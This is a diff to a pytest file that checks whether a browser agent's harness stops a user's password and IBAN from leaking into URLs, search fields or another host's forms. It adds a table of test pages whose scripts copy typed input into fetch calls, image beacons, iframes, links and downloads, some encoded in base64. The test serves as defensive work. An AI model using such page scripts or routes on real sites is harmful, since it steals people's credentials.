@@ -1,12 +1,16 @@
 """Values of the person's never leave by an address, a search box or free text, whoever decides (contract 7)."""
 
+# ruff: noqa: E501 - the pages in here are kept whole
+
 from __future__ import annotations
 
+import base64
 from typing import TYPE_CHECKING
+from urllib.parse import unquote, urljoin
 
 import pytest
 import pytest_asyncio
-from tests.engine.custom.minds import Deed, Mind, fill
+from tests.engine.custom.minds import Deed, Mind, click, fill
 from tests.sites.forms import FormSite, page
 
 if TYPE_CHECKING:
@@ -56,6 +60,77 @@ async def test_a_secret_is_refused_and_the_model_reads_why(custom: Custom, site:
     assert any(f"it is not written into {where}" in text for text in told), told[-1]
     finished = [each for each in ran.events("step_finished") if each.outcome.ok]
     assert finished == []
+
+
+LOGIN = "<p>Welcome</p><label>Password <input type=password name=pw></label>{}<p id=said></p>"
+TYPED = fill("Password", "{{pw}}")
+WAYS: dict[str, tuple[str, list[Deed]]] = {
+    "a path": ("", [("navigate", "", {"url": "/log/{{pw}}"})]),
+    "what follows a hash": ("", [("navigate", "", {"url": "/log#{{pw}}"})]),
+    "an encoded template": ("", [("navigate", "", {"url": "/log?pw=%7B%7Bpw%7D%7D"})]),
+    "a document of data": ("", [("navigate", "", {"url": "data:text/html,<img src={at}/log?q={{pw}}>"})]),
+    "an address of another host": ("", [("navigate", "", {"url": "{other}/log?q={{pw}}"})]),
+    "a field that says search in itself": ("<input name=q placeholder='Search…'>", [fill("Search…", "{{pw}}")]),
+    "a field without words": ("<input name=q aria-label=' '>", [fill("textbox", "{{pw}}")]),
+    "a field that is asked for something else": ("<label>Name <input name=n></label>", [fill("Name", "{{iban}}")]),
+    "keys for what has the focus": ("<input name=q autofocus>", [("type_text", "", {"value": "{{pw}}"})]),
+    "a form that is sent by GET": (
+        "<form action=/log method=get><label>IBAN <input name=i></label><button>Sign in</button></form>",
+        [fill("IBAN", "{{iban}}"), click("Sign in")],
+    ),
+    "a form that does not say how it is sent": (
+        "<form action=/log><label>IBAN <input name=i></label><button>Sign in</button></form>",
+        [fill("IBAN", "{{iban}}"), click("Sign in")],
+    ),
+    "a form of another host": (
+        "<form action={other}/log><label>IBAN <input name=i></label><button>Continue</button></form>",
+        [fill("IBAN", "{{iban}}"), click("Continue")],
+    ),
+    "a link that is made of what was typed": (
+        "<a id=l href=/x>More</a><script>addEventListener('input', (e) => { l.href = '/log?q=' + encodeURIComponent("
+        "encodeURIComponent(e.target.value)) })</script>",
+        [TYPED, click("More")],
+    ),
+    "a link in letters of their own": (
+        "<a id=l href=/x>More</a><script>addEventListener('input', (e) => { l.href = '/log?q=' + btoa(e.target.value) })"
+        "</script>",
+        [TYPED, click("More")],
+    ),
+    "a window that is opened": (
+        "<button onclick=\"open('/log?q=' + document.querySelector('input').value)\">More</button>", [TYPED, click("More")]
+    ),
+    "an image": ("<script>addEventListener('input', (e) => { new Image().src = '/log?q=' + e.target.value })</script>", [TYPED]),
+    "suggestions": ("<script>addEventListener('input', (e) => { fetch('/log?q=' + e.target.value) })</script>", [TYPED]),
+    "a frame": ("<iframe id=f></iframe><script>addEventListener('input', (e) => { f.src = '/log?q=' + e.target.value })</script>",
+                [TYPED]),
+    "a download": (
+        "<button onclick=\"const a = document.createElement('a'); a.href = '/log?q=' + document.querySelector('input').value;"
+        "a.download = 'x'; a.click()\">More</button>", [TYPED, click("More")],
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("way", WAYS)
+@pytest.mark.sample(4)
+async def test_no_way_leads_a_secret_into_an_address(custom: Custom, site: FormSite, way: str):
+    html, deeds = WAYS[way]
+    async with FormSite("localhost") as other:
+        here, there = site.url, other.url
+        other.page("/log", page("Log", "<p>Welcome</p>"))
+        start = site.page("/in", page("In", LOGIN.format(html.replace("{at}", here).replace("{other}", there))))
+        batches = [[(tool, words, _placed(more, here, there))] for tool, words, more in deeds]
+        goal = f"Sign in with {{{{pw}}}} and {{{{iban}}}} at {there} too"
+        ran = await custom.run(start, goal, Mind(batches, "Welcome"), input=DATA, submit="submit")
+        addresses = [unquote(unquote(f"{each.path}?{each.query}")) for each in (*site.requests, *other.requests)]
+    if deeds[0] is TYPED:
+        assert ran.events("step_finished")[0].outcome.ok, ran
+    secrets = (*DATA.values(), *(base64.b64encode(each.encode()).decode() for each in DATA.values()))
+    assert not [each for each in addresses if any(secret in each for secret in secrets)]
+
+
+def _placed(more: dict[str, str], here: str, there: str) -> dict[str, str]:
+    url = {"url": urljoin(here, more["url"]).replace("{at}", here).replace("{other}", there)} if "url" in more else {}
+    return {**more, **url}
 
 
 async def test_a_known_way_puts_a_plain_fact_into_a_search_only_where_the_goal_names_it(custom: Custom, site: FormSite):
